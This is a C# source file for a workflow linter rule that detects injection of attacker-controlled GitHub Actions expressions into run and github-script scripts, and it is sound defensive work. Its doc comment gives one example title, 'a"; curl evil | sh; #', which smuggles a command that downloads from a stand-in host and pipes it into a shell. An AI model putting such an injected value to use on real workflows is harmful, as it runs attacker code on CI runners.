using ThreatLint.Catalog;
using ThreatLint.Documents.Pipelines;
using ThreatLint.Documents.Yaml;

namespace ThreatLint.Rules.Pipelines;

/// <summary>
/// TL3003: a GitHub Actions expression whose value an attacker writes (an issue or pull-request title or body, a
/// comment, a branch name, a commit message) is pasted into a <c>run:</c> script or an <c>actions/github-script</c>
/// <c>script:</c> before the shell or JavaScript reads it: a title such as <c>a"; curl evil | sh; #</c> runs.
/// </summary>
/// <remarks>
/// Expressions are parsed, not grepped: the contexts they read are resolved (<c>github.event['issue'].title</c>,
/// <c>toJSON(github.event.pull_request)</c>), an expression in a YAML comment is not part of any value, and an
/// expression in another <c>with:</c> input or in <c>env:</c> is data handed to the action or the shell, not script
/// text. Workflow, reusable-workflow and composite-action inputs of type string (<c>inputs.*</c>) are chosen by the
/// caller: reported with medium severity and low confidence; boolean, number and choice inputs are not reported.
/// </remarks>
public sealed class PipelineExpressionInjection : IYamlRule
{
    public RuleDescriptor Descriptor => Catalog.Rules.PipelineExpressionInjection;

    public void Check(YamlFile document, RuleContext context)
    {
        if (PipelineFile.Of(document, context.Path).GitHub is not { } workflow)
        {
            return;
        }

        var typedInputs = TypedInputs(workflow);
        foreach (var step in workflow.Steps)
        {
            var script = step.Run ?? (step.Action is "actions/github-script" ? step.Input("script") : null);
            if (script?.Text is null)
            {
                continue;
            }

            var where = (workflow.IsAction ? "action " : "job " + step.Job.Id + " ") + step.Label;
            foreach (var expression in GitHubExpression.Find(script.Value))
            {
                foreach (var contextPath in expression.Contexts.Distinct(StringComparer.Ordinal))
                {
                    var trust = GitHubContexts.TrustOf(contextPath);
                    if (trust == ContextTrust.Trusted || (trust == ContextTrust.CallerControlled && typedInputs.Contains(InputName(contextPath))))
                    {
                        continue;
                    }

                    var shown = "${{ " + expression.Body + " }}" + " (" + contextPath + ") in " + where;
                    var attacker = trust == ContextTrust.AttackerControlled;
                    context.Report(
                        Descriptor,
                        script.SpanOf(expression.Offset, expression.Length),
                        contextPath + " in " + where,
                        [shown.Length <= 200 ? shown : contextPath + " in " + where],
                        attacker ? null : Severity.Medium,
                        attacker ? Confidence.High : Confidence.Low);
                    break;
                }
            }
        }
    }

    private static string InputName(string context) =>
        context.StartsWith("github.event.inputs.", StringComparison.Ordinal) ? context.Substring(20) : context.StartsWith("inputs.", StringComparison.Ordinal) ? context.Substring(7) : context;

    /// <summary>Inputs declared boolean, number, choice or environment: their values cannot carry shell syntax.</summary>
    private static HashSet<string> TypedInputs(GitHubWorkflow workflow)
    {
        var typed = new HashSet<string>(StringComparer.Ordinal);
        var declarations = workflow.Triggers.Select(t => t.Settings?["inputs"]);
        foreach (var inputs in declarations)
        {
            foreach (var input in inputs?.Entries ?? [])
            {
                if (input.KeyText is { } name && input.Value["type"]?.Text is "boolean" or "number" or "choice" or "environment")
                {
                    typed.Add(name.ToLowerInvariant());
                }
            }
        }

        return typed;
    }
}
